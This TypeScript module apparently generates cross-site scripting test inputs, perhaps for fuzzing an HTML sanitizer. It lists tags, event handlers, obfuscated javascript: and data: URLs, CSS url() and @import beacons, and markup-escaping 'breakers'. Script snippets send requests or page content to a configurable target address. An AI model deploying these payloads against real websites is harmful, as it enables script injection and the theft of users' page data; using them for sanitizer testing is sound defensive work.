/** Pieces that payloads are made of. `target`: the address a payload that works would ask for. */
export const tags =
  `a abbr address applet area article audio b base bdo big blink body br button canvas center code col command custom-tag data datalist
  dd del details dialog dir div dl embed fieldset fencedframe figure font footer form frame frameset h1 head header hr html i iframe image img
  input ins isindex kbd keygen label legend li link listing main map marquee menu meta meter nav nobr noembed noframes noscript object ol
  optgroup option output p param picture plaintext portal pre progress q script section select slot source span strike style summary sup svg
  table tbody td template textarea tfoot th thead time title tr track u ul var video wbr xmp math mtext mglyph maction annotation-xml
  foreignObject desc animate set animateTransform use feImage image tspan filter pattern mask`.split(/\s+/u);

export const handlers =
  `onload onerror onfocus onblur onclick onmouseover onmouseenter onpointerenter onpointerrawupdate ontoggle onbegin onend onrepeat
  onanimationstart onanimationend ontransitionend onscroll onscrollend onwheel oncopy onpaste oncut ondrag oninput onchange oninvalid onsubmit
  onreset onsearch onselect onkeydown oncanplay onplay onloadedmetadata onloadstart onsuspend onpageshow onhashchange onpopstate onmessage
  onbeforeprint onafterprint onresize oncontextmenu onauxclick onbeforetoggle oncontentvisibilityautostatechange onsecuritypolicyviolation
  onslotchange onfinish onbounce onstart`.split(/\s+/u);

export const urlAttributes =
  `src href action formaction poster data background ping cite longdesc usemap manifest srcset imagesrcset codebase classid archive icon
  profile xlink:href dynsrc lowsrc srcdoc from to values style`.split(/\s+/u);

export const scripts = (target: string): string[] => [
  `fetch('${target}')`,
  `new Image().src='${target}'`,
  `alert(1)`,
  `confirm\`1\``,
  `prompt(document.domain)`,
  `top.location='${target}'`,
  `location='${target}'`,
  `navigator.sendBeacon('${target}')`,
  `new WebSocket('${target}'.replace('http','ws'))`,
  `import('${target}')`,
  `open('${target}')`,
  `document.write('<img src=${target}>')`,
  `eval(atob('YWxlcnQoMSk='))`,
  `parent.postMessage(document.body.innerHTML,'*')`,
  `new RTCPeerConnection({iceServers:[{urls:'stun:'+new URL('${target}').host}]}).createDataChannel('')`,
  `setTimeout\`alert\\x281\\x29\``,
  `print()`,
];

export const addresses = (target: string): string[] => [
  target,
  target.replace('http:', ''),
  `javascript:fetch('${target}')`,
  `JaVaScRiPt:alert(1)`,
  `java\tscript:alert(1)`,
  `java\nscript:alert(1)`,
  `\u0001javascript:alert(1)`,
  `&#106;avascript:alert(1)`,
  `javascript&colon;alert(1)`,
  `data:text/html,<script>fetch('${target}')</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="alert(1)"/>`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `blob:${target}`,
  `view-source:${target}`,
  `filesystem:${target}`,
  `mailto:a@b.example?body=${target}`,
  `\\\\${new URL(target).host}\\a`,
  `https:${new URL(target).host}`,
  `${target} 2x`,
];

export const styles = (target: string): string[] => [
  `background:url(${target})`,
  `background:u\\72l('${target}')`,
  `background-image:image-set('${target}' 1x)`,
  `list-style:url("${target}")`,
  `cursor:url(${target}),auto`,
  `content:url(${target})`,
  `border-image:url(${target}) 30`,
  `mask:url(${target}#m)`,
  `filter:url(${target}#f)`,
  `shape-outside:url(${target})`,
  `behavior:url(${target})`,
  `-moz-binding:url(${target}#x)`,
  `width:expression(alert(1))`,
  `position:fixed;inset:0;z-index:9;background:#fff`,
  `animation:x 1s;@keyframes x{from{background:url(${target})}}`,
];

export const sheets = (target: string): string[] => [
  `@import '${target}';`,
  `@import url(${target}) layer(a) supports(display:grid);`,
  `@font-face{font-family:x;src:url(${target})}body{font-family:x}`,
  `*{${styles(target)[0]}}`,
  `body::before{content:url(${target})}`,
  `a[href^=h]{background:url(${target})}`,
  `@namespace url(${target});`,
  `@property --x{syntax:'<url>';inherits:false;initial-value:url(${target})}`,
  `:root{--x:url(${target})}p{background:var(--x)}`,
];

/** What gets out of the place a text stands in, or would. */
export const breakers = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</p></body></html>',
  '-->',
  '--!>',
  ']]>',
  '<![CDATA[',
  '<!--',
  '<!-->',
  '<?xml ?>',
  '\0">',
  '&quot;&gt;',
  '" autofocus ',
  '</li></ul></section>',
  '<!doctype html>',
  '%22%3E',
  '\u2028',
];
